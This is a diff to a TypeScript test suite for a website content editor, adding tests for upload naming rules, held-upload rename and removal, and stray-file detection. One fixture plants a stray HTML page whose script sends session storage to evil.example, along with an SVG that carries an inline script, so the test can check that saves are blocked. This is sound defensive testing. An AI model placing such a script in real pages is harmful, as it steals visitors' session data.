@@ -5,7 +5,7 @@
  * repository. Each test says what the author does; each editor plays the faults its own way (an answer lost on the
  * way, another tab's save), and must give the same outcome.
  */
-import { existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -15,23 +15,33 @@ import { writeSiteVersion } from '../build/site-version.ts';
 import { readSchemas } from '../checker/read-config-files.ts';
 import { PROJECT_SCHEMAS, siteFolders } from '../checker/project-folders.ts';
 import { validateConfig } from '../checker/validate-config.ts';
-import { checkHere, DRAFTS, githubSitePerTest, teammatePublishes } from '../testing/editor-github-site.ts';
+import {
+  AUTHOR,
+  checkHere,
+  DRAFTS,
+  githubSitePerTest,
+  pushedToDrafts,
+  teammatePublishes,
+} from '../testing/editor-github-site.ts';
 import { git, sharedSitePerTest } from '../testing/git-sites.ts';
 import { editorOnDisk } from '../testing/editor-on-disk.ts';
 import { SPEC_SITE_DIR } from '../testing/sites.ts';
 import { EditorStore } from './app/editor-store.ts';
 import { current } from './app/file-history.ts';
 import { GitHubApi } from './github/github-api.ts';
-import { GitHubBackend } from './github/github-backend.ts';
+import { GitHubBackend, type HeldUploadStore } from './github/github-backend.ts';
 import { MemoryShelf } from './model/drafts.ts';
 import { LIST_MOVED } from './model/publish-list.ts';
 import { editorSchemas } from './server/editor-schemas.ts';
+import { ensureHeldMediaFolder } from './server/held-media.ts';
 import { LockQueue } from './server/lock-queue.ts';
 import { SitePublisher } from './server/publishing.ts';
 import { liveSiteBuild } from './server/live-site.ts';
 import { readConfigFile, saveConfigFiles } from './server/workspace.ts';
 import type { EditorBackend } from './protocol/editor-backend.ts';
 import { refusalWords } from './protocol/refusals.ts';
+import { fileNameProblem } from '../content/file-names.ts';
+import { strayInWords } from './model/stray-files.ts';
 
 const HOME = 'config/pages/home.json';
 const FAQS = 'config/collections/faqs.json';
@@ -58,6 +68,12 @@ interface Editor {
   readonly hangNextSave: () => void;
   /** Another tab of the same author saves a new question for the first FAQ. */
   readonly anotherTabSaves: (question: string) => Promise<void>;
+  /** An upload held for the author before names were checked, under a name the checker refuses (before the page opens). */
+  readonly heldFromBefore: (name: string, bytes: Uint8Array) => void;
+  /** Whether the site where saves go holds a file (public/media/…). */
+  readonly savedHas: (path: string) => boolean;
+  /** Files the editor did not put there land where the author's saves go: a web page and a drawing with a script. */
+  readonly strayFilesLand: (files: Record<string, string>) => void;
 }
 
 const local = sharedSitePerTest(SPEC_SITE_DIR);
@@ -135,6 +151,12 @@ async function localEditor(): Promise<Editor> {
       void teammatePublishes(site, FAQS, (faqs) => (faqs.faqs[0].question = question)),
     loseNextAnswer: (to) => (lose[to] = true),
     hangNextSave: () => (hang = true),
+    heldFromBefore: (name, bytes) => writeFileSync(join(ensureHeldMediaFolder(site.author), name), bytes),
+    savedHas: (path) => existsSync(join(site.author, path)),
+    strayFilesLand: (files) => {
+      // Put in the author's copy by something other than the editor.
+      for (const [path, text] of Object.entries(files)) writeFileSync(join(site.author, path), text);
+    },
     anotherTabSaves: async (question) => {
       const opened = readConfigFile(site.author, FAQS);
       const data = JSON.parse(opened.text) as { faqs: { question: string }[] };
@@ -149,8 +171,20 @@ async function localEditor(): Promise<Editor> {
 /** The editor at /admin/'s backend, on the GitHub stand-in: faults are the network's, played by the stand-in. */
 async function gitHubEditor(): Promise<Editor> {
   const { api, github, site } = onGitHub();
+  // The browser's storage of held uploads, as admin/held-uploads.ts keeps them: by account and path.
+  const kept = new Map<string, { bytes: Uint8Array; type: string; at?: number }>();
+  const heldUploads: HeldUploadStore = {
+    keep: async (owner, path, upload) => void kept.set(`${owner}\u0000${path}`, upload),
+    forget: async (owner, path) => void kept.delete(`${owner}\u0000${path}`),
+    all: async (owner) =>
+      [...kept].flatMap(([key, upload]) => {
+        const [whose, path] = key.split('\u0000');
+        return whose === owner ? [[path!, upload] as [string, typeof upload]] : [];
+      }),
+  };
   const backendFor = (through: GitHubApi) =>
     new GitHubBackend({
+      heldUploads,
       api: through,
       check: checkHere,
       checkSchemas: async () => readSchemas(PROJECT_SCHEMAS),
@@ -174,6 +208,17 @@ async function gitHubEditor(): Promise<Editor> {
         body: to === 'save' ? `"branchName":"${DRAFTS}"` : '"branchName":"main"',
       }),
     hangNextSave: () => github.faults.push({ kind: 'hang', body: `"branchName":"${DRAFTS}"` }),
+    heldFromBefore: (name, bytes) =>
+      void kept.set(`${AUTHOR.login}\u0000public/media/${name}`, { bytes, type: 'image/png' }),
+    savedHas: (path) => {
+      try {
+        git(site.remote, 'cat-file', '-e', `${DRAFTS}:${path}`);
+        return true;
+      } catch {
+        return false;
+      }
+    },
+    strayFilesLand: (files) => pushedToDrafts(site, 'Kofi Boateng', files),
     anotherTabSaves: async (question) => {
       const other = backendFor(api);
       const opened = await other.openFile(FAQS);
@@ -267,6 +312,148 @@ describe.each([
       ['/media/hero.mp4', 'video', true],
       ['/media/hero.webm', 'video', true],
     ]);
+  });
+
+  it('refuses an upload named CON.png in the name rule’s words, never holding it; holds others, listed, with Rename that drafts follow', async () => {
+    const editor = await editorOf();
+    const { store } = await pageOn(editor);
+    const poster = readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg'));
+    await expect(
+      editor.backend.uploadMedia(new File([poster], 'CON.jpg', { type: 'image/jpeg' }), 'image'),
+    ).rejects.toThrow(
+      'CON.jpg is named "con.jpg", a name Windows keeps for a device. Rename it. Then upload it again.',
+    );
+    await store.uploads.refresh();
+    expect(store.uploads.getState().uploads).toEqual([]);
+
+    const held = await editor.backend.uploadMedia(new File([poster], 'Poster.jpg', { type: 'image/jpeg' }), 'image');
+    expect(held.src).toBe('/media/poster.jpg');
+    const home = structuredClone(current(store.getState().open[HOME]!)) as any;
+    home.sections[0].video.poster = held.src;
+    store.edit(HOME, home);
+    await store.uploads.refresh();
+    expect(store.uploads.getState().uploads).toEqual([
+      { src: '/media/poster.jpg', kind: 'image', bytes: poster.length, uploadedAt: expect.any(String) },
+    ]);
+    expect(store.uploads.namedBy(held.src)).toEqual([{ file: HOME, at: ['sections', 0, 'video', 'poster'] }]);
+
+    // A name the rule refuses, or another file's, is refused in words; a good one is taken, and the draft follows.
+    expect(await store.uploads.rename(held.src, 'aux')).toBe(false);
+    expect(store.uploads.getState().said).toBe(
+      refusalWords('heldNameRefused', `aux.jpg ${fileNameProblem('aux.jpg')}`),
+    );
+    expect(await store.uploads.rename(held.src, 'hero-poster')).toBe(false);
+    expect(store.uploads.getState().said).toBe(refusalWords('heldNameTaken', 'hero-poster.jpg'));
+    expect(await store.uploads.rename(held.src, 'launch-poster')).toBe(true);
+    expect(store.getState().status).toBe(
+      `Renamed /media/poster.jpg to /media/launch-poster.jpg. Your unsaved changes to ${HOME} name it by its new name.`,
+    );
+    expect((current(store.getState().open[HOME]!) as any).sections[0].video.poster).toBe('/media/launch-poster.jpg');
+    await store.save();
+    expect(store.getState().status).toMatch(new RegExp(`^Saved ${HOME}\\.`));
+    expect([editor.savedHas('public/media/launch-poster.jpg'), editor.savedHas('public/media/poster.jpg')]).toEqual([
+      true,
+      false,
+    ]);
+    await vi.waitFor(() => expect(store.uploads.getState().uploads).toEqual([]));
+  });
+
+  it('removes a held upload when asked: a draft that names it shows the missing file’s problem at its field', async () => {
+    const editor = await editorOf();
+    const { store } = await pageOn(editor);
+    const poster = readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg'));
+    const held = await editor.backend.uploadMedia(new File([poster], 'cover.jpg', { type: 'image/jpeg' }), 'image');
+    const home = structuredClone(current(store.getState().open[HOME]!)) as any;
+    home.sections[0].video.poster = held.src;
+    store.edit(HOME, home);
+    await store.checked();
+    expect(store.getState().problems.filter((problem) => problem.severity === 'error')).toEqual([]);
+    await store.uploads.remove(held.src);
+    expect(store.uploads.getState().said).toBe(
+      `Removed /media/cover.jpg: it never joins the site. ${HOME} still names it: choose or upload another file in that field before you save.`,
+    );
+    expect(store.uploads.getState().uploads).toEqual([]);
+    await store.checked();
+    expect(store.getState().problems).toContainEqual(
+      expect.objectContaining({ file: HOME, at: ['sections', 0, 'video', 'poster'], severity: 'error' }),
+    );
+    expect(await editor.backend.removeHeldUpload(held.src)).toEqual({
+      error: refusalWords('heldUploadGone', held.src),
+    });
+  });
+
+  it('an upload held under a name the checker refuses, from before names were checked, never stops a save; listed to rename', async () => {
+    const editor = await editorOf();
+    const png = readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg'));
+    editor.heldFromBefore('con.jpg', png);
+    const { store, write } = await pageOn(editor);
+    write('Saved beside it');
+    await store.save();
+    expect(store.getState().status).toBe(`Saved ${HOME}.`);
+    expect(editor.saved()).toBe('Saved beside it');
+    await vi.waitFor(() =>
+      expect(store.uploads.getState().uploads).toEqual([
+        expect.objectContaining({ src: '/media/con.jpg', nameProblem: fileNameProblem('con.jpg') }),
+      ]),
+    );
+    expect(await store.uploads.rename('/media/con.jpg', 'cover')).toBe(true);
+    expect(store.uploads.getState().uploads).toEqual([expect.not.objectContaining({ nameProblem: expect.anything() })]);
+  });
+
+  it('a file the editor did not put where saves go, which the site cannot have, stops saves in words with the way out', async () => {
+    const editor = await editorOf();
+    editor.strayFilesLand({
+      'public/evil.html': '<script>fetch("https://evil.example/?t=" + sessionStorage.key(0))</script>\n',
+      'public/media/x.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
+    });
+    const { store, write } = await pageOn(editor);
+    const strays = ['public/evil.html', 'public/media/x.svg'];
+    await vi.waitFor(() =>
+      expect(
+        store.strays
+          .getState()
+          .strays?.files.map((file) => file.path)
+          .sort(),
+      ).toEqual(strays),
+    );
+    write('Blocked for now');
+    await store.save();
+    const takesOff = editor.backend.canTakeOffStrays;
+    expect(store.getState().status).toBe(
+      `Not saved: 2 problems need fixing first. public/evil.html and public/media/x.svg ${
+        takesOff
+          ? 'are on your drafts, put there outside the editor, and the site cannot have them: take them off your drafts (listed above the form), then save again.'
+          : "are in this computer's copy of the site, outside what the editor changes, and the site cannot have them: ask a developer to remove them, then save again."
+      } Your changes are kept.`,
+    );
+    const { files } = store.strays.getState().strays!;
+    if (!takesOff) {
+      // npm run edit: the author's own copy of the site, which a developer deals with.
+      expect(
+        strayInWords(
+          files.find((file) => file.path === 'public/evil.html')!,
+          false,
+        ),
+      ).toMatch(
+        /^public\/evil\.html was changed in this computer's copy of the site outside the editor\. .* A developer must deal with it: the editor changes only config\/ and public\/media\/, and never a file it did not put there\.$/,
+      );
+      expect(await editor.backend.takeOffDrafts({ paths: strays, listedAt: 'x' })).toEqual({
+        error: refusalWords('straysNeedDeveloper', 'public/evil.html and public/media/x.svg'),
+      });
+      return;
+    }
+    // At /admin/: who put them there, and what taking them off does; then one commit takes them off, and saves go.
+    expect(files.every((file) => file.by?.name === 'Kofi Boateng' && file.change === 'added')).toBe(true);
+    expect(strayInWords(files[0]!, true)).toMatch(
+      /^public\/evil\.html was put on your drafts by Kofi Boateng on \d{1,2} [A-Z][a-z]+\. .* It never reaches the site from the editor; taking it off your drafts removes it from your drafts, and nothing of yours changes\.$/,
+    );
+    await store.strays.takeOff();
+    expect(store.getState().status).toMatch(/^Took public\/evil\.html and public\/media\/x\.svg off your drafts/);
+    expect(strays.map(editor.savedHas)).toEqual([false, false]);
+    await store.save();
+    expect(store.getState().status).toBe(`Saved ${HOME}.`);
+    expect(editor.saved()).toBe('Blocked for now');
+    await vi.waitFor(() => expect(store.strays.getState().strays).toBeUndefined());
   });
 
   it('undoes a published change on the live branch, and refuses one a later change touched the same field, in words', async () => {
